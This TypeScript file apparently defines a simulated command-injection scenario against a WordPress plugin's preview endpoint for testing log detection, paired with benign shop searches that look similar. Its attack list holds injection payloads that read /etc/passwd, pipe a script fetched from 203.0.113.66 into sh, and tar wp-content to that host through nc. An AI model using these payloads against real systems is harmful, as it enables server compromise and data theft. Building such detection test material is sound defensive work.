import type { Story } from '../story.ts';
import { TOOLS } from '../scene.ts';

export const runCommands: Story = {
  name: 'run-commands', title: 'commands run through a plugin that makes previews',
  items: ['injection.command'], site: 'stahl-form',
  attack(s) {
    const intruder = s.stranger(0, TOOLS.script);
    const lines = ['x;id', 'x|cat /etc/passwd', 'x;uname -a', 'x$(curl http://203.0.113.66/a.sh|sh)', 'x;tar c wp-content|nc 203.0.113.66 443'];
    return lines.map((line, i) => s.request(s.at('0:40') + i * 30_000, intruder, `GET /wp-admin/admin-ajax.php?action=cad_preview&f=${encodeURIComponent(line)}`, { bytes: 14_000 + 100 * i }));
  },
  lookAlike: {
    title: 'searches and filters with signs of the shell',
    events: (s) =>
      s.every(s.at('13:00'), '3m', 6, (at, i) => s.request(at, s.visitor(), `GET /shop/?s=${['cat%20%26%20dog', 'm8|m10', 'id;badge', '5%24%20parts', 'ls+profile', 'whoami+shirt'][i] ?? ''}&cat=12`, { bytes: 33_000 })),
  },
};
